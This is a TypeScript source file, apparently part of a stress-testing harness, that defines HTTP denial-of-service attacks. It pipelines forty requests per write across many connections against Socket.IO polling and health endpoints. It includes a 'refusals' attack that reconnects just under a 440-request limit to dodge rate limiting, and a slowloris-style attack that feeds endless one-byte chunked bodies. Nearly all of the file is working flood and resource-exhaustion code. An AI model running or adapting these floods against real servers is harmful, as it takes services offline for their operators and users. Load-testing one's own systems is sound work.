// Attacks over HTTP by small requests, as many as the server answers.
import { setTimeout as pause } from 'node:timers/promises'
import { CONNECTIONS, goesOn, type Attack, type Target } from './attack.ts'
import { Connection } from './connection.ts'

const AHEAD = 40
const LOOK_MS = 20

/**
 * Sends forty requests at a time on each connection, the next ones when these are answered; opens another connection
 * when one has ended.
 * @param requestsEach after so many requests a connection is left
 */
async function ask(
  path: string,
  { url, from }: Target,
  signal: AbortSignal,
  opened: (connection: Connection) => void,
  requestsEach = Infinity,
): Promise<void> {
  const requests = `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`.repeat(AHEAD)
  await Promise.all(
    Array.from({ length: CONNECTIONS }, async () => {
      while (goesOn(signal)) {
        const connection = new Connection(url, from)
        opened(connection)
        let answers = 0
        connection.onText((text) => {
          const before = answers
          answers += text.split('HTTP/1.1 ').length - 1
          if (answers >= requestsEach) connection.end()
          else if (Math.floor(answers / AHEAD) > Math.floor(before / AHEAD)) connection.write(requests)
        })
        connection.write(requests)
        while (connection.isOpen && goesOn(signal)) await pause(LOOK_MS)
        connection.end()
      }
    }),
  )
}

export const polling: Attack = {
  name: 'polling',
  does: 'Asks Socket.IO without a WebSocket, forty times in one write on each connection, again and again.',
  isFlood: true,
  start: (target, signal, opened) => ask('/socket.io/?EIO=4&transport=polling', target, signal, opened),
}

export const healthChecks: Attack = {
  name: 'health-checks',
  does: 'Asks whether the server lives, forty times in one write on each connection, again and again.',
  start: (target, signal, opened) => ask('/health/live', target, signal, opened),
}

const UNPUNISHED = 440

export const refusals: Attack = {
  name: 'refusals',
  does: 'Asks for the time on each connection, and leaves for a new one before it is closed for going on.',
  start: (target, signal, opened) => ask('/api/time', target, signal, opened, UNPUNISHED),
}

const CHUNKS = '1\r\na\r\n'.repeat(10_000)

export const chunks: Attack = {
  name: 'chunks',
  does: 'Eight requests whose bodies come in chunks of a byte, for ever.',
  isFlood: true,
  start: async ({ url, from }, signal, opened) => {
    await Promise.all(
      Array.from({ length: CONNECTIONS }, async () => {
        while (goesOn(signal)) {
          const connection = new Connection(url, from)
          opened(connection)
          connection.write('POST /api/visitors HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n')
          while (connection.isOpen && goesOn(signal)) {
            if (connection.isTaken) connection.write(CHUNKS)
            await pause(1)
          }
          connection.end()
        }
      }),
    )
  },
}
